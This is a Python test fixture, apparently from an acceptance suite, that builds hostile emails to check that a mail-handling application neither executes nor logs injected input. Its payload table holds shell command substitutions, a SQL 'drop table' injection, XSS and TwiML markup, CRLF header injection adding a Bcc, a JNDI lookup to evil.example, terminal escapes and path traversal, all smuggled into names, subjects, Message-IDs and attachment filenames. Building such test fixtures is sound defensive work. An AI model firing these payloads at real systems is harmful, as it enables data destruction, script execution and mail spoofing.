"""Letters written to misuse whatever shows, stores or forwards them.

Lives here: the payloads, and mail that carries them wherever mail can. Must not live here: expectations.
"""

from __future__ import annotations

import base64
from typing import Final

from tests.acceptance.installation import PROPOSAL, USER

MARK: Final = "pwnmark"  # in every payload: what a log may not hold
CANARY: Final = "pwned-by-mail"  # the file that a payload would make if it were ever run

PAYLOADS: Final = {
    "terminal": f"{MARK}\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m\x08\x08\x1b]8;;http://evil.example\x1b\\link",
    "reordering": f"{MARK}\u202egnp.exe\u202c\u2066x\u2069\u200f\ufeff\U000e0041",
    "shell": f"{MARK} $(touch {CANARY}); `touch {CANARY}` | touch {CANARY} && touch {CANARY}\n touch {CANARY}",
    "sql": f"{MARK}'); drop table messages cascade; delete from notifications; -- \\'; $$; %(x)s :name",  # noqa: S608 - meant to be one
    "markup": f"{MARK}</Say><Dial>+15550199</Dial><Say><script>alert(1)</script><img src=x onerror=alert(2)>&#x1b;]]>",
    "headers": f"{MARK}\r\nBcc: everyone@example.net\r\nX-Evil: 1\r\n\r\nsecond body\x85\u2028{{}}",
    "templates": f"{MARK} %s %n {{0.__class__}} ${{jndi:ldap://evil.example/a}} {{{{7*7}}}} [[h@l'oU]] [red]x[/red]",
    "files": f"{MARK}../../../{CANARY}\x00.txt",
}


def _encoded(text: str) -> str:
    """Return ``text`` as an encoded word (RFC 2047, section 2), which carries any character."""
    return f"=?utf-8?b?{base64.b64encode(text.encode()).decode()}?="


def hostile_letter(number: int, payload: str) -> bytes:
    """Return a proposal to meet with ``payload`` in name, subject, text and the name of an attachment."""
    text = base64.encodebytes(f"{PROPOSAL}\n\n{payload}\n".encode()).decode()
    name = _encoded(payload)
    return (
        f"From: {name} <stranger-{number}@example.org>\r\nTo: {USER}\r\nSubject: {name}\r\n"
        f"Date: Tue, 10 Nov 2026 10:00:00 +0000\r\nMessage-ID: <hostile-{number}-';$(touch {CANARY})@example.org>\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=edge\r\n\r\n"
        "--edge\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{text}\r\n--edge\r\nContent-Type: application/x-sh\r\n"
        f'Content-Disposition: attachment; filename="../../{CANARY}"\r\n\r\ntouch {CANARY}\r\n--edge--\r\n'
    ).encode()


def hostile_letters() -> list[bytes]:
    """Return one letter for each payload, in their order."""
    return [hostile_letter(number, payload) for number, payload in enumerate(PAYLOADS.values(), start=1)]
